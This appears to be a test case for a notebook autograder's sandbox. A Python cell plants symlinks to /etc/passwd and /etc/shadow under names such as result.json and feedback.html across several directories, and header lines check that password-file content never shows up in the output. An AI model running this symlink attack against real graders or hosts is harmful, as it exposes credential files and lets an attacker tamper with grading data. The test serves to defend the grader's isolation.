# attack: plants links to files of the host under every name that a grader might read or write
# verdict: graded
# marks: double_two=1 double_negative=2 noise_bounds=2
# says: links planted
# never: root:x:
# %% after="double"
import os

for folder in (".", "/tmp", "/run/kernel", "/run/course", "/home/student", "/run/kernel/files"):
    for name in ("result.json", "01_doubling.ipynb", "feedback.html", "figure.png", "errors", "kernel-1", "timestamp.txt", "files"):
        for target in ("/etc/passwd", "/etc/shadow", "/tmp/attack-was-here"):
            try:
                path = os.path.join(folder, name)
                if os.path.lexists(path):
                    os.rename(path, f"{path}.old")
                os.symlink(target, path)
            except OSError:
                if folder.startswith("/run"):
                    continue
assert not os.path.islink("/run/kernel/kernel-1") and not os.path.islink("/run/kernel/files")
print("links planted")
